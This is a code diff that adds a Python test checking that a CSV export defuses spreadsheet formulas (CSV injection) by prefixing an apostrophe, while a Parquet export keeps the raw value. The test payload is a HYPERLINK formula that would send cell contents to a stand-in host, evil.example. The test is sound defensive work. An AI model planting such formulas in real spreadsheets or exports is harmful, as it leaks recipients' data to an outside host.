@@ -323,3 +323,17 @@ def test_a_failed_export_leaves_no_file_and_is_audited(
     with db.engine.connect() as conn:
         (entry,) = [e for e in audit.query(conn) if e["action"] == "export.public_lists"]
     assert entry["outcome"] == "error: OSError"
+
+
+def test_csv_cells_are_never_spreadsheet_formulas(
+    db: Database, catalogue: Catalogue, now: dt.datetime, tmp_path: Path
+) -> None:
+    # A name filed as a formula would run when a recipient opens the extract in a spreadsheet (CSV injection).
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"王芳")'
+    file(db, catalogue, now, external_id="F", subject_id=PERSON, subject_name=formula)
+    (row,) = _csv_rows(_export(tmp_path, now + DAY, "csv", "lists.csv").read_bytes())
+    assert row["subject_name"] == "'" + formula
+    pdir = tmp_path / "p"
+    pdir.mkdir()
+    table = pq.read_table(_export(pdir, now + DAY, "parquet", "lists.parquet"))
+    assert table.column("subject_name").to_pylist() == [formula]  # typed data keeps the value as filed
